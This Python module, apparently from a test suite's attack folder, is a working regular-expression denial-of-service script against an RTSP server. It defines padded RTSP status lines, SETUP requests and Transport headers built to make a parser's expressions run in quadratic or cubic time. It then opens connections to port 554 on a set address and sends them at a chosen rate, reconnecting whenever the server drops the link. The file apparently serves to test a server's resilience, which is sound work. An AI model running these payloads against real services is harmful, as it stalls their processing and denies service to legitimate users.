"""Messages that expressions read in quadratic and cubic time, on a connection of the attacker's own.

It hopes that the helper reads them for seconds, while another box's SETUP waits.
"""

from __future__ import annotations

import contextlib
import socket
import time

from tests.attacks import wire

HEADS = {
    "status": b"RTSP/1.0 200" + b" " * 1400 + b"\rX\n\r\n\r\n",
    "long status": b"RTSP/1.0 200" + b" " * 2000 + b"\rX\n\r\n\r\n",
    "request": b"SETUP " + b" " * 1400 + b"\rX\r\n\r\n",
    "start again": b"\r\n" * 600 + b"X" * 200 + b"\r\n\r\n",
    "transport": b"SETUP rtsp://s/f RTSP/1.0\r\nCSeq: 1\r\nTransport: " + b"a;b=," * 2400 + b"\r\n\r\n",
    "ports": b"SETUP rtsp://s/f RTSP/1.0\r\nCSeq: 1\r\nTransport: MP2T/H2221/UDP;client_port="
    + b"1-" * 6000
    + b"\r\n\r\n",
    "blanks": b"SETUP rtsp://s/f RTSP/1.0\r\nCSeq: 1\r\nTransport: MP2T;x=" + b" \t" * 6000 + b"y\r\n\r\n",
}


def attack(
    _wire: wire.Wire,
    server: str = "172.26.83.10",
    head: str = "",
    count: int = 10,
    rate: float = 20.0,
    seconds: float = 0.0,
) -> int:
    heads = [HEADS[head]] if head else list(HEADS.values())
    sent = 0
    connection: socket.socket | None = None
    for number in wire.pace(rate, seconds or count / rate):
        try:
            if connection is None or number % len(heads) == 0:
                if connection is not None:
                    connection.close()
                connection = socket.create_connection((server, 554), 3)
                connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            connection.sendall(heads[number % len(heads)])
            sent += 1
        except OSError:  # the server has hung up
            connection = None
    time.sleep(0.2)
    with contextlib.suppress(OSError, AttributeError):
        assert connection is not None
        connection.close()
    return sent


if __name__ == "__main__":
    wire.run(attack)
